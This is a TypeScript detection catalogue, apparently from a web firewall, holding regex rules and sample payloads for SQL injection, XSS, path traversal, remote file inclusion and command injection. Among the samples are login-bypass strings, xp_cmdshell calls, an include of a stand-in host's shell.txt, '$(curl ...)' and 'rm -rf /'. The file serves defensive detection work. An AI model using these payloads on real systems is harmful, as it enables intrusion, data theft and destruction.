/** API attack classes for HTTP traffic (parameter values, paths, headers, bodies). */
import { HTTP_KINDS, type CatalogueEntry } from './entry.ts';

const H = HTTP_KINDS;

/**
 * Base64 spellings of `word` at the three byte alignments it can take inside a longer encoded
 * blob: only the characters that depend on the word's own bytes (not on its neighbours) are kept,
 * so a fragment cut out of any serialized object still matches. Lower-cased, as T1 scans
 * lower-cased variants.
 */
export function base64Spellings(word: string): string[] {
  const spellings: string[] = [];
  for (let shift = 0; shift < 3; shift++) {
    const encoded = Buffer.from('\0'.repeat(shift) + word, 'latin1').toString('base64');
    const start = Math.ceil((shift * 8) / 6);
    const end = Math.floor(((shift + word.length) * 8) / 6);
    spellings.push(encoded.slice(start, end).toLowerCase());
  }
  return spellings;
}

// Java gadget and process classes whose names inside a base64 parameter mean a serialized
// object (commons-collections, Groovy, XMLDecoder chains), in the case Java spells them and in
// lower case; "Runtime" on its own is common in ordinary base64 JSON and gets a weaker entry.
const JAVA_GADGET_WORDS = [
  'ProcessBuilder', 'ProcessImpl', 'UNIXProcess', 'InvokerTransformer', 'ChainedTransformer', 'ConstantTransformer',
  'InstantiateTransformer', 'InstantiateFactory', 'CloneTransformer', 'ForClosure', 'WhileClosure', 'PrototypeCloneFactory',
  'PrototypeSerializationFactory', 'TemplatesImpl', 'AnnotationInvocationHandler', 'XMLDecoder', 'java/lang/Runtime', 'java.lang.Runtime',
];
const JAVA_GADGET_BASE64 = [...new Set(JAVA_GADGET_WORDS.flatMap((word) => [...base64Spellings(word), ...base64Spellings(word.toLowerCase())]))];
const JAVA_RUNTIME_BASE64 = [...new Set([...base64Spellings('Runtime'), ...base64Spellings('runtime'), ...base64Spellings('getRuntime'), ...base64Spellings('getruntime')])];
// Where a whole parameter value starts: a line start, after "name=", or after a header name.
const VALUE_START = String.raw`(?:^|=|^[a-z0-9_-]{1,40}:\s?)`;
const alternation = (literals: readonly string[]): string => literals.map((literal) => literal.replace(/[+/]/g, (char) => `\\${char}`)).join('|');

export const API_PATTERNS: readonly CatalogueEntry[] = [
  // SQL injection
  { id: 'sqli.union-select', name: 'UNION-based SQL injection', category: 'sqli', weight: 0.95, kinds: H, keywords: ['union'],
    pattern: String.raw`\bunion[\s(+]{1,20}(?:(?:all|distinct)[\s(+]{1,20})?select\b`, examples: ["1' UNION SELECT username, password FROM users--", '-1 union all select 1,2,3'] },
  { id: 'sqli.tautology', name: 'SQL tautology after a quote', category: 'sqli', weight: 0.9, kinds: H, keywords: ['or', 'and', '||', '&&'],
    pattern: String.raw`['"\x60][\s)]{0,10}(?:\bor\b|\band\b|\bxor\b|\|\||&&)[\s(]{0,10}['"\x60]?[a-z0-9_@.]{1,30}['"\x60]?[\s)]{0,5}(?:=|<>|!=|<=>|>=|<=|>|<|\blike\b|\bis\b|\brlike\b|\bregexp\b|\bbetween\b|\bin\b|\bsounds like\b)`, examples: ["' or '1'='1", 'admin" OR 1=1', "x') or ('a'='a"] },
  { id: 'sqli.quote-boolean', name: 'Quote followed by boolean SQL', category: 'sqli', weight: 0.8, kinds: H, keywords: ['or', 'and', '||'],
    pattern: String.raw`['"\x60][\s)]{0,10}(?:\bor\b|\band\b|\|\|)[\s(]{0,10}(?:true\b|false\b|not\s|null\b|\d{1,10}\s?(?:=|<|>|--|#|;|\)|$)|sleep\s?\(|exists\s?\(|select\s|if\s?\(|char\s?\(|ascii\s?\(|substr|length\s?\(|@@)`, examples: ["' or true--", "1' and sleep(5)"] },
  { id: 'sqli.numeric-tautology', name: 'Numeric SQL tautology', category: 'sqli', weight: 0.7, kinds: H, keywords: ['or', 'and', '||', '&&'],
    pattern: String.raw`(?:\bor\b|\band\b|\bxor\b|\|\||&&)[\s(]{1,10}(\d{1,10})[\s)]{0,5}(?:=|<>|!=|>=|<=|>|<|\blike\b)[\s(]{0,5}\d{1,10}\b`, examples: ['1 OR 1=1', '5 and 3>2'] },
  { id: 'sqli.quote-keyword', name: 'Quote followed by SQL keyword', category: 'sqli', weight: 0.6, kinds: H, keywords: ["'", '"', '`'],
    pattern: String.raw`['"\x60][\s);]{0,10}(?:having\s+\d|order\s+by\s+\d|group\s+by\s+[a-z0-9_]|limit\s+\d|procedure\s+analyse|into\s+(?:out|dump)file|where\s+[a-z0-9_.]{1,30}\s?(?:=|<|>|like\b|in\b|is\b)|select\s+(?:\*|@@|null\b|\d|[a-z_]{1,30}\s?\(|[a-z_.]{1,30}\s+from\b)|rlike\s|regexp\s|waitfor\s|exec(?:ute)?\s+(?:master|xp_|sp_|@|\()|declare\s+@|insert\s+into|update\s+\w+\s+set|delete\s+from|drop\s+table|benchmark\s?\(|sleep\s?\()`, examples: ["' having 1=1--", '" select * from users', "') order by 3--"] },
  { id: 'sqli.comment-terminator', name: 'Quote then SQL comment', category: 'sqli', weight: 0.65, kinds: H, keywords: ['--', '#', ';'],
    pattern: String.raw`['"\x60][\s);]{0,10}(?:--(?:\s|$)|#$|#\n|;\s{0,5}--|;\s{0,5}#|;\s{0,5}\x00)`, examples: ["admin'--", "x');#", "1' -- x"] },
  { id: 'sqli.login-bypass', name: 'Login bypass', category: 'auth-bypass', weight: 0.9, kinds: H, keywords: ['admin', 'root', 'administrator', 'user'],
    pattern: String.raw`\b(?:admin|root|administrator|user|sa|test)['"\x60][\s)]{0,5}(?:--|#|;|\bor\b|/\*)`, examples: ["admin'--", "root' or 1=1"] },
  { id: 'sqli.stacked', name: 'Stacked SQL query', category: 'sqli', weight: 0.85, kinds: H, keywords: [';'],
    pattern: String.raw`;\s{0,10}(?:drop\s+(?:table|database|schema|user|view|procedure|function)|delete\s+from|insert\s+into|update\s+[a-z0-9_.\[\]"\x60]{1,64}\s+set|create\s+(?:table|user|database|login|procedure|function)|alter\s+(?:table|user|database|login)|truncate\s+table|exec(?:ute)?\s+(?:master|xp_|sp_|immediate|@|\(|[a-z_.]{1,40}\s+['"@])|declare\s+@|select\s+(?:\*|@@|null\b|\d|[a-z_.]{1,40}\s?(?:\(|,|from\b))|shutdown\b|grant\s|revoke\s|waitfor\s+delay|backup\s+database|copy\s+\w+\s+(?:from|to)\s+program)`, examples: ['1; DROP TABLE users', "x'; exec master..xp_cmdshell 'dir'"] },
  { id: 'sqli.time-based', name: 'Time-based blind SQL injection', category: 'sqli', weight: 0.9, kinds: H, keywords: ['sleep', 'benchmark', 'waitfor', 'dbms_pipe', 'randomblob', 'dbms_lock'],
    pattern: String.raw`\b(?:sleep|pg_sleep)\s?\(\s?[\d.]+\s?\)|\bbenchmark\s?\(\s?\d+\s?,|\bwaitfor\s+(?:delay|time)\s+['"]|\bdbms_pipe\.receive_message\b|\brandomblob\s?\(\s?\d{5,}|\bdbms_lock\.sleep\b`, examples: ["1' AND SLEEP(5)--", "'; WAITFOR DELAY '0:0:5'--"] },
  { id: 'sqli.sleep-call', name: 'SQL delay function call', category: 'sqli', weight: 0.75, kinds: H, keywords: ['sleep', 'benchmark'],
    pattern: String.raw`\b(?:sleep|pg_sleep|benchmark)\s?\(`, examples: ['sleep(__TIME__)#'] },
  { id: 'sqli.dangling-operator', name: 'Quote followed by a dangling boolean operator', category: 'sqli', weight: 0.45, kinds: H, keywords: ['or', 'and', '||'],
    pattern: String.raw`['"\x60][\s)]{0,10}(?:\bor\b|\band\b|\|\|)\s{0,5}$`, examples: ["'%20OR", '" and'] },
  { id: 'sqli.select-function', name: 'SELECT of a server function or variable', category: 'sqli', weight: 0.8, kinds: H, keywords: ['select'],
    pattern: String.raw`\bselect\s+(?:@@[a-z_]{2,30}|session_user|current_user|system_user|user\s?\(\s?\)|version\s?\(\s?\)|database\s?\(\s?\)|schema\s?\(\s?\)|banner\b|load_file)`, examples: ['select session_user;', 'select @@version'] },
  { id: 'sqli.schema-objects', name: 'SQL catalogue or dangerous procedure', category: 'sqli', weight: 0.85, kinds: H,
    keywords: ['information_schema', 'sys', 'pg_', 'mysql.user', 'sqlite_', 'all_tab', 'user_tables', 'dba_users', 'msys', 'xp_', 'sp_', 'openrowset', 'opendatasource', 'utl_', 'dbms_', 'load_file', 'outfile', 'dumpfile', '@@'],
    pattern: String.raw`\b(?:information_schema|sysobjects|syscolumns|sysusers|sys\.(?:tables|columns|objects|databases|sql_logins)|pg_catalog|pg_shadow|pg_user|pg_tables|pg_read_file|mysql\.user|sqlite_master|sqlite_schema|all_tables|all_tab_columns|user_tables|dba_users|msysobjects|msysaccessobjects|xp_cmdshell|xp_regread|xp_dirtree|sp_executesql|sp_oacreate|sp_makewebtask|sp_configure|sp_password|openrowset|opendatasource|utl_http|utl_inaddr|dbms_java|dbms_xmlgen|load_file|into\s+(?:out|dump)file)\b|@@(?:version|datadir|hostname|basedir|servername|identity|spid|global)`, examples: ['select table_name from information_schema.tables', '1 and @@version>0'] },
  { id: 'sqli.error-functions', name: 'Error/extraction SQL functions', category: 'sqli', weight: 0.8, kinds: H,
    keywords: ['extractvalue', 'updatexml', 'group_concat', 'concat_ws', 'name_const', 'make_set', 'elt(', 'gtid_subset', 'xmltype', 'ctxsys', 'json_keys', 'exp(~', 'floor(rand', 'version()', 'database()', 'user()', 'current_user', 'system_user'],
    pattern: String.raw`\b(?:extractvalue|updatexml|group_concat|concat_ws|name_const|make_set|elt|gtid_subset|xmltype|ctxsys\.\w+|json_keys)\s?\(|\bexp\s?\(\s?~|\bfloor\s?\(\s?rand\s?\(|\b(?:version|database|user|current_user|system_user|session_user|schema)\s?\(\s?\)`, examples: ["and extractvalue(1,concat(0x7e,version()))", 'select group_concat(name)'] },
  // A string or row generator asked for millions of items, usually inside another call
  // (`regexp_substring(repeat(…, 5000000), …)`, `length(lpad('a', 999999999, 'a'))`): a heavy
  // query that stands in for SLEEP where the function is filtered.
  { id: 'sqli.heavy-function', name: 'SQL generator function with a huge count', category: 'sqli', weight: 0.8, kinds: H, keywords: ['repeat', 'replicate', 'lpad', 'rpad', 'space', 'randomblob', 'zeroblob', 'generate_series'],
    pattern: String.raw`\b(?:repeat|replicate|lpad|rpad|space|randomblob|zeroblob|generate_series)\s?\((?:[^()\d]|\d{1,4}(?!\d)|\((?:[^()]|\([^()]{0,30}\)){0,60}\)){0,40}\d{6,12}`,
    examples: ["regexp_substring(repeat(right(database(),1),5000000),'x')", 'length(repeat(char(65),99999999))', 'randomblob(1000000000)', 'generate_series(1,10000000)'] },
  { id: 'sqli.char-building', name: 'String building with CHAR()', category: 'sqli', weight: 0.7, kinds: H, keywords: ['char', 'chr'],
    pattern: String.raw`\b(?:char|chr|nchar)\s?\(\s?\d{1,3}\s?[,)]\s?(?:\d{1,3}|\|\||\+|&)`, examples: ['char(97,100,109)', 'chr(65)||chr(66)'] },
  { id: 'sqli.select-from', name: 'SELECT … FROM statement', category: 'sqli', weight: 0.6, kinds: H, keywords: ['select'],
    pattern: String.raw`\bselect\b[\s(]{1,10}(?:\*|@@|null\b|count\s?\(|concat|char\s?\(|\d+\s?,|top\s+\d|distinct\b|[a-z0-9_.\[\]\x60"]{1,64}\s?,)⟪80:;\n⟫\bfrom\b`, examples: ['select * from users', 'SELECT 1,2 FROM dual'] },
  { id: 'sqli.subselect', name: 'Nested SELECT', category: 'sqli', weight: 0.7, kinds: H, keywords: ['select'],
    pattern: String.raw`\(\s{0,5}select\b`, examples: ['1 and (select 1 from x)'] },
  { id: 'sqli.order-having', name: 'ORDER BY / HAVING probing', category: 'sqli', weight: 0.7, kinds: H, keywords: ['order', 'group', 'having', 'procedure'],
    pattern: String.raw`\b(?:order|group)\s+by\s+\d{1,3}\s?(?:--|#|,\s?\d|;|\)|$)|\bhaving\s+\d+\s?=\s?\d+|\bprocedure\s+analyse\b`, examples: ['1 ORDER BY 3--', "' having 1=1"] },
  { id: 'sqli.exec', name: 'SQL EXEC/DECLARE', category: 'sqli', weight: 0.85, kinds: H, keywords: ['exec', 'declare'],
    pattern: String.raw`\bexec(?:ute)?\s+(?:master\.|xp_|sp_|\(|immediate\b)|\bdeclare\s+@\w+`, examples: ['exec master..xp_cmdshell', 'DECLARE @x varchar(99)'] },
  { id: 'sqli.mysql-comment-version', name: 'MySQL versioned comment', category: 'sqli', weight: 0.8, kinds: H, keywords: ['/*!'],
    pattern: String.raw`/\*!\d{0,6}`, examples: ['/*!50000union*/'] },
  { id: 'sqli.case-when', name: 'Conditional SQL probe', category: 'sqli', weight: 0.6, kinds: H, keywords: ['case', 'iif', 'if('],
    pattern: String.raw`\bcase\s+when\b⟪60:;\n⟫\bthen\b|\b(?:iif|if)\s?\(⟪60:)\n⟫[=<>]⟪60:)\n⟫,`, examples: ['case when 1=1 then 1 else 0 end', 'if(1=1,sleep(5),0)'] },
  // XSS
  { id: 'xss.script-tag', name: 'Script tag', category: 'xss', weight: 0.95, kinds: H, keywords: ['script'],
    pattern: String.raw`<\s?/?\s?script\b`, examples: ['<script>alert(1)</script>', '< script src=//x>'] },
  { id: 'xss.event-handler-tag', name: 'Tag with event handler', category: 'xss', weight: 0.9, kinds: H, keywords: ['on'],
    pattern: String.raw`<[a-z!/?]⟪300:>⟫[\s"'/]on[a-z]{3,30}\s?=`, examples: ['<img src=x onerror=alert(1)>', '<body onload="x()">'] },
  { id: 'xss.event-attribute', name: 'Injected event attribute', category: 'xss', weight: 0.75, kinds: H, keywords: ['on'],
    pattern: String.raw`(?:^|[\s"'/;>])on(?:load|error|mouse[a-z]{2,10}|click|dblclick|focus(?:in|out)?|blur|key(?:up|down|press)|submit|change|input|toggle|animation[a-z]{3,10}|transition[a-z]{3,10}|pointer[a-z]{2,10}|touch[a-z]{3,10}|drag[a-z]{0,10}|drop|scroll|wheel|resize|begin|end|show|copy|cut|paste|unload|beforeunload|hashchange|message|popstate|pageshow|readystatechange|select|invalid|reset|search|abort|play(?:ing)?|pause|ended|seek(?:ed|ing)|contextmenu|auxclick|afterprint|beforeprint|start|finish|bounce|activate|beforeactivate|mousewheel|formchange|forminput|propertychange|filterchange|repeat)\s?=`, examples: ['" onmouseover="alert(1)', "' autofocus onfocus=alert(1) x='"] },
  { id: 'xss.js-url', name: 'javascript:/vbscript: URL', category: 'xss', weight: 0.85, kinds: H, keywords: ['script:', 'script :'],
    pattern: String.raw`\b(?:java|vb|live|ecma|j)script\s?:`, examples: ['javascript:alert(1)', 'href="vbscript:msgbox(1)"'] },
  { id: 'xss.data-html', name: 'data: URL with HTML or script', category: 'xss', weight: 0.8, kinds: H, keywords: ['data:'],
    pattern: String.raw`\bdata:\s?(?:text/html|text/javascript|application/javascript|image/svg\+xml|application/x-javascript)`, examples: ['data:text/html;base64,PHNjcmlwdD4='] },
  // Tags that are active content wherever they appear.
  { id: 'xss.dangerous-tag', name: 'Active-content HTML tag', category: 'xss', weight: 0.7, kinds: H, keywords: ['<'],
    pattern: String.raw`<\s?(?:iframe|frame|frameset|object|embed|applet|svg|math|isindex|marquee|bgsound|layer|ilayer|xss|portal|noscript|textarea|plaintext|xmp|animate|handler|listener)\b`, examples: ['<iframe src=//evil>', '<svg/onload=alert(1)>'] },
  // HTML tags whose names are also ordinary XML element names (`<title>`, `<link>`, `<meta>`,
  // `<base>`, `<style>`, `<form>`, `<set>` in an API's XML body): active content only with the
  // attribute that makes them load, redirect, submit or animate something, for `<style>` with
  // CSS after it, or as an opening tag that ends the scanned text (an XML document ends with a
  // closing tag; end of text, not of a line, as pretty-printed XML has an opening tag on each
  // line); otherwise they only log.
  { id: 'xss.dangerous-tag-attribute', name: 'HTML tag with a loading or redirecting attribute', category: 'xss', weight: 0.7, kinds: H, keywords: ['<'],
    pattern: String.raw`<\s?(?:base|meta|link|style|form|import|video|audio|details|template|title|set)[\s/]⟪200:<>⟫(?:\b(?:href|src|http-equiv|charset|rel|action|formaction|attributename|begin|srcdoc|match|xlink:href|implementation)[\s/]{0,3}=|\btype\s?=\s?["']?text/)|<\s?style\b⟪200:<⟫[{@=\\]|<\s?(?:base|meta|link|style|form|import|template|set)\b[^<>]{0,200}>?\s{0,3}(?![\s\S])`, examples: ['<link rel="stylesheet" href="//evil.example/x.css">', '<meta http-equiv="refresh" content="0;url=//evil.example">', '<base href=//evil.example>', '<style>body{background:red}</style>', '<form>', 'x"><style>'] },
  { id: 'xss.html-tag-name', name: 'HTML tag that is also an XML element name', category: 'xss', weight: 0.3, kinds: H, keywords: ['<'],
    pattern: String.raw`<\s?(?:base|meta|link|style|form|import|video|audio|details|template|title|set)\b`, examples: ['<style>', '</title><form>'] },
  // `<xml>` is the root element of ordinary XML API bodies (payment notifications, plain XML
  // APIs), so it is not active content by itself. What makes it an IE data-island attack is an
  // id or src attribute (the island is bound to HTML through datasrc, or loads a remote
  // document), an element in the reserved xml: namespace (`<xml:namespace>` imports of IE
  // behaviours; no XML document can have one) or a word split across CDATA sections so a filter
  // never sees it whole (`javas]]><![CDATA[cript:`). Script, event handlers and javascript: URLs
  // inside it are caught by their own entries.
  { id: 'xss.xml-data-island', name: 'XML data island or CDATA-split payload', category: 'xss', weight: 0.7, kinds: H, keywords: ['xml', ']]>'],
    pattern: String.raw`<\s?xml\s⟪200:<>⟫\b(?:id|src|datasrc)\s?=|<\s?xml:[a-z]|[a-z:]\]\]>\s?<!\[cdata\[\s?[a-z:]`, examples: ['<xml id=i><x><c>payload</c></x></xml>', '<xml src="//evil.example/island.xml">', '<xml:namespace prefix="v">', '<c><![CDATA[<img src="javas]]><![CDATA[cript:x">]]></c>'] },
  { id: 'xss.tag-generic', name: 'HTML tag in a parameter', category: 'xss', weight: 0.45, kinds: H, keywords: ['<'],
    pattern: String.raw`<\s?(?:img|a|body|html|div|span|input|button|table|td|p|h1|select|option|image|br|b|i|u|font|center|x)\b⟪200:>⟫>`, examples: ['<img src=x>', '<b>bold</b>'] },
  { id: 'xss.js-call-gadget', name: 'JavaScript dialog or eval reached through call/apply/bind', category: 'xss', weight: 0.75, kinds: H, keywords: ['alert', 'confirm', 'prompt', 'eval', 'print'],
    pattern: String.raw`\b(?:alert|confirm|prompt|eval|print)\s{0,3}\.\s{0,3}(?:call|apply|bind)\s{0,3}\(`, examples: ['alert.call(null,1)', 'confirm.apply(null,[1])', 'prompt.bind(null)(1)'] },
  { id: 'xss.js-sinks', name: 'JavaScript sink call', category: 'xss', weight: 0.75, kinds: H, keywords: ['alert', 'prompt', 'confirm', 'document.', 'window.', 'eval', 'fromcharcode', 'atob', 'settimeout', 'setinterval', 'constructor', 'top[', 'self[', 'parent['],
    pattern: String.raw`\b(?:alert|prompt|confirm)\s?(?:\(|\x60)|\bdocument\.(?:cookie|domain|write|writeln|location|body)\b|\bwindow\.(?:location|open|name)\b|\beval\s?\(|\bstring\.fromcharcode\b|\batob\s?\(|\bset(?:timeout|interval)\s?\(|\bconstructor\s?\(|\b(?:top|self|parent|window|this)\s?\[`, examples: ['alert(document.cookie)', 'eval(atob("YWxlcnQoMSk="))'] },
  { id: 'xss.css-expression', name: 'CSS expression or binding', category: 'xss', weight: 0.8, kinds: H, keywords: ['expression', 'binding', 'behavior', '@import'],
    pattern: String.raw`\bexpression\s?\(|-moz-binding|\bbehavior\s?:|@import\b`, examples: ['style="width:expression(alert(1))"'] },
  { id: 'xss.style-injection', name: 'Style attribute loading code or URLs', category: 'xss', weight: 0.6, kinds: H, keywords: ['style'],
    pattern: String.raw`\bstyle\s?=⟪200:<>⟫(?:url\s?\(|expression\s?\(|behaviou?r\s?:|@import|javascript:|-moz-binding)`, examples: ['<div style="background:url(http://x/y.jpg)">', '<x style="behaviour: url(a.htc)">'] },
  { id: 'xss.legacy-vectors', name: 'Legacy browser script vectors', category: 'xss', weight: 0.75, kinds: H, keywords: ['<?import', '<?xml-stylesheet', '<?xml:namespace', 'urn:schemas-microsoft-com', 'xsl:stylesheet', 'ev:', '#default#', 'datasrc', 'dataformatas', 'datafld'],
    pattern: String.raw`<\?(?:import|xml-stylesheet|xml:namespace)\b|\burn:schemas-microsoft-com:(?:time|vml)\b|\bxsl:stylesheet\b|\bev:(?:event|handler)\s?=|\bimplementation\s?=\s?["']?#default#|\b(?:datasrc|dataformatas|datafld)\s?=`, examples: ['<?import namespace="t" implementation="#default#time2">', '<span datasrc=#i datafld=c dataformatas=html>'] },
  { id: 'xss.attribute-payload', name: 'Dangerous attribute', category: 'xss', weight: 0.7, kinds: H, keywords: ['srcdoc', 'formaction', 'xlink:href', 'autofocus', 'dynsrc', 'lowsrc', 'background'],
    pattern: String.raw`\b(?:srcdoc|formaction|xlink:href|dynsrc|lowsrc)\s?=|\bautofocus\b⟪60:>⟫\bon[a-z]{3,20}\s?=|\bbackground\s?=\s?['"]?\s?(?:java|vb)script`, examples: ['<iframe srcdoc="<script>x</script>">'] },
  // Path traversal and file inclusion
  { id: 'pt.dot-dot-slash', name: 'Directory traversal step', category: 'path-traversal', weight: 0.6, kinds: H, keywords: ['..'],
    pattern: String.raw`(?:^|[\\/=;:'"\s])\.{2,}[\\/]|[\\/]\.\.(?:[\\/;]|$)|\.\.;/`, examples: ['../x', '/foo/..;/admin'] },
  { id: 'pt.dot-dot-slash-repeated', name: 'Directory traversal', category: 'path-traversal', weight: 0.9, kinds: H, keywords: ['..'],
    pattern: String.raw`\.\.[\\/]{1,2}\.\.(?:\.{0,2}[\\/;]|$)`, examples: ['../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc'] },
  { id: 'pt.sensitive-unix', name: 'Sensitive Unix file', category: 'path-traversal', weight: 0.85, kinds: H, keywords: ['/etc/', '/proc/', '/var/', '/root/', '/home/', '/usr/', '/bin/', '/dev/', '/sys/', 'etc/'],
    pattern: String.raw`(?:^|[\\/])etc[\\/](?:passwd|shadow|group|hosts|issue|motd|hostname|crontab|sudoers|fstab|resolv\.conf|mysql|apache2|httpd|nginx|ssh|ssl|php|profile|environment|master\.passwd|security|gshadow|inetd\.conf|networks|rc\.d|init\.d|lighttpd|syslog|redhat-release|os-release|network)|(?:^|[\\/])proc[\\/](?:self|\d+)[\\/](?:environ|cmdline|fd|maps|status|exe|cwd|mounts|root)|(?:^|[\\/])proc[\\/](?:version|cpuinfo|meminfo|net)|(?:^|[\\/])var[\\/](?:log|www|mail|spool|lib|run)[\\/]|(?:^|[\\/])root[\\/]\.|(?:^|[\\/])(?:usr[\\/]local[\\/])?(?:apache|apache2|httpd|nginx)[\\/](?:conf|logs)|(?:^|[\\/])bin[\\/](?:ba|z|k|c|tc|da)?sh\b|(?:^|[\\/])dev[\\/](?:tcp|udp)[\\/]|(?:[<>|&=]|^)\s?[\\/]dev[\\/](?:null|zero|random|urandom)\b`, examples: ['/etc/passwd', '/proc/self/environ', 'file=/var/log/apache/access.log', 'x;cat a 2>/dev/null', 'q=/dev/urandom'] },
  { id: 'pt.sensitive-windows', name: 'Sensitive Windows file', category: 'path-traversal', weight: 0.85, kinds: H, keywords: ['win', 'boot.ini', 'system32', 'inetpub', 'sam', 'autoexec', 'c:', 'program files'],
    pattern: String.raw`\b(?:boot|win|system|autoexec|config)\.(?:ini|sys|bat)\b|\b(?:windows|winnt)[\\/](?:system32|system|repair|win\.ini|debug|panther|php\.ini)|\bsystem32[\\/]|\binetpub[\\/]|[a-z]:[\\/](?:windows|winnt|boot\.ini|inetpub|xampp|wamp)|\\\\[a-z0-9.$-]{1,64}\\(?:c\$|admin\$|ipc\$)`, examples: ['c:\\windows\\win.ini', '..\\boot.ini'] },
  // Separators stripped by a filter that removes `\` and `/` once ("c:windowswin.ini"): the folder
  // names glue into words no ordinary value holds.
  { id: 'pt.windows-separator-stripped', name: 'Windows path with its separators stripped', category: 'path-traversal', weight: 0.85, kinds: H, keywords: ['windows', 'winnt', 'system32', 'inetpub'],
    pattern: String.raw`(?:^|[^a-z0-9])[a-z]:(?:windows|winnt)(?:system32|system|win\.ini|repair|debug|panther|php\.ini|temp)|(?:^|[^a-z0-9])[a-z]:inetpub(?:wwwroot|logs|ftproot)|\b(?:windows|winnt)(?:system32|win\.ini|system\.ini|repair(?:sam|system|security)|debug(?:netsetup|passwd))|\bsystem32(?:config(?:sam|system|security|regback)|drivers(?:etc)?)|\binetpubwwwroot`,
    examples: ['c:windowswin.ini', 'C:WINDOWSsystem32driversetchosts', 'windowssystem32configsam', 'c:inetpubwwwrootweb.config'] },
  { id: 'pt.etc-file', name: 'Path into /etc', category: 'path-traversal', weight: 0.7, kinds: H, keywords: ['etc/', 'etc\\'],
    pattern: String.raw`(?:^|[\\/=\s'"])etc[\\/][a-z0-9._-]{2,}`, examples: ['/etc/make.conf', 'file=/etc/vsftpd.conf'] },
  { id: 'pt.server-logs', name: 'Web server log or config file', category: 'path-traversal', weight: 0.75, kinds: H, keywords: ['log', 'conf'],
    pattern: String.raw`[\\/](?:logs?|log/(?:apache2?|httpd|nginx))[\\/](?:access|error)[._-]?log\b|[\\/](?:httpd|apache2?|nginx|lighttpd)(?:[\\/]conf)?[\\/](?:httpd|apache2?|nginx|lighttpd)\.conf\b|[\\/](?:apache2?|httpd|nginx|cron)[\\/]logs?\b`, examples: ['/apache2/logs/access_log', '/var/log/nginx/error.log', '/etc/httpd/conf/httpd.conf'] },
  { id: 'pt.web-config', name: 'Web server secret file', category: 'path-traversal', weight: 0.75, kinds: H, keywords: ['web-inf', 'htaccess', 'htpasswd', '.git', '.svn', '.hg', '.bzr', '.env', 'web.config', 'wp-config', 'config.', '.ds_store', 'id_rsa', '.bash_', 'php.ini', 'my.cnf', '.bashrc', 'httpd.conf', 'database.'],
    pattern: String.raw`\bweb-inf[\\/]|\.ht(?:access|passwd)\b|[\\/]\.(?:git|svn|hg|bzr)(?:[\\/]|$)|[\\/]\.env\b|\bweb\.config\b|\bwp-config\.php\b|\bconfig\.(?:php|inc)\b|\.ds_store\b|\bid_rsa\b|\.bash_history\b|\bphp\.ini\b|\bmy\.cnf\b|\.bash_profile\b|\.bashrc\b|\bhttpd\.conf\b|\bdatabase\.(?:asp|php|yml|yaml|json)\b`, examples: ['/WEB-INF/web.xml', '/.git/config'] },
  { id: 'pt.null-byte', name: 'Null byte in a parameter', category: 'path-traversal', weight: 0.7, kinds: H, keywords: ['\u0000', '%00', '\\0'],
    pattern: String.raw`\x00|%00|\\0(?![0-9])`, examples: ['file.php%00.jpg'] },
  { id: 'fi.wrapper', name: 'Stream wrapper inclusion', category: 'file-inclusion', weight: 0.85, kinds: H, keywords: ['://', 'php:', 'phar:', 'zip:', 'expect:', 'glob:', 'data:'],
    pattern: String.raw`\b(?:php|phar|zip|expect|glob|compress\.zlib|compress\.bzip2|ssh2\.\w+|rar|ogg|zlib)://|\bphp://(?:input|filter|stdin|memory|temp|fd)|\bdata:(?:text/plain|//|;base64)`, examples: ['php://filter/convert.base64-encode/resource=index.php', 'expect://id'] },
  { id: 'fi.remote-include', name: 'Remote file inclusion', category: 'file-inclusion', weight: 0.6, kinds: H, keywords: ['http', 'ftp'],
    pattern: String.raw`(?:^|=)\s?(?:https?|ftps?)://⟪300:\s&?⟫(?:\?(?:$|&|\s)|%3f(?:$|&)|\.(?:txt|inc|sh|pl|py)(?:$|\?|&|%00|\x00))`, examples: ['page=http://evil.example/shell.txt?', 'inc=http://evil.example/c99.txt'] },
  // Command injection
  { id: 'ci.shell-chain', name: 'Shell command after separator', category: 'command-injection', weight: 0.85, kinds: H, keywords: [';', '|', '&', '`', '$(', '\n'],
    pattern: String.raw`(?:[;|&\x60\n]|\$\(|\|\||&&)\s{0,5}(?:cat|ls|id|whoami|uname|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|dash|python[23]?|perl|ruby|php|nslookup|ping|chmod|chown|ifconfig|ipconfig|net\s+(?:user|localgroup)|powershell|cmd(?:\.exe)?|certutil|bitsadmin|mshta|rundll32|regsvr32|telnet|tftp|xterm|nohup|base64|xxd|awk|sed|printenv|systeminfo|tasklist|taskkill|reboot|shutdown|sudo|passwd|useradd|crontab|mkfifo|mknod|socat|openssl|busybox|traceroute|netstat|killall|printenv|lsof|getent|nmap|gcc|tclsh|sysctl|dmesg)\b(?:\s{1,5}[-/$.'"~a-z0-9]|[;|&\x60)$]|\s{0,5}$)`, examples: ['; cat /etc/passwd', '| id', '&& whoami', '$(curl http://x)', '`uname -a`'] },
  // A quote that closes the value, then a separator, then a shell or cmd builtin: the break-out
  // is the evidence, so the command may be an ordinary word (`"|echo vulnerable`, `'|ver`).
  { id: 'ci.quote-break-chain', name: 'Shell builtin after a closing quote and a separator', category: 'command-injection', weight: 0.8, kinds: H, keywords: ['"', "'", '\x60'],
    pattern: String.raw`(?:^|[=&?])[^\s"'\x60|;&=]{0,64}["'\x60]\s{0,3}(?:\|\|?|;|&&?)\s{0,3}(?:echo|printf|print|set|env|type|dir|ver|vol|cd|pwd|start|call|exit|time|date|expr|test|true|false|sort|more|find|findstr|tree|wmic|reg|sc|schtasks|at|copy|del|ren|move|mkdir|rmdir|attrib|cls|tasklist|hostname|whoami|id|ls|cat|sleep|timeout|ping|nslookup|dig|curl|wget)\b`,
    examples: ['"|echo vulnerable', "x'|ver", 'q=a";set', "name=x'&&dir c:"] },
  { id: 'ci.shell-chain-common', name: 'Common shell command with arguments after separator', category: 'command-injection', weight: 0.7, kinds: H, keywords: [';', '|', '&', '`', '$(', '\n'],
    pattern: String.raw`(?:[;|&\x60\n]|\$\(|\|\||&&)\s{0,5}(?:rm|dig|host|ps|kill|touch|mkdir|cp|mv|sleep|echo|env|set|type|dir|find|grep|head|tail|more|less|which|whereis|hostname|uptime|w|who|last|lastlog|lastlogin|node|java|lua|mount|ln|file|strings)\s{1,5}(?:-[a-z]|/|\$|\.\.?/|%[a-z]|\d+\s?(?:$|[;|&\x60]))`, examples: ['; rm -rf /', '| sleep 5', '&& echo $PATH'] },
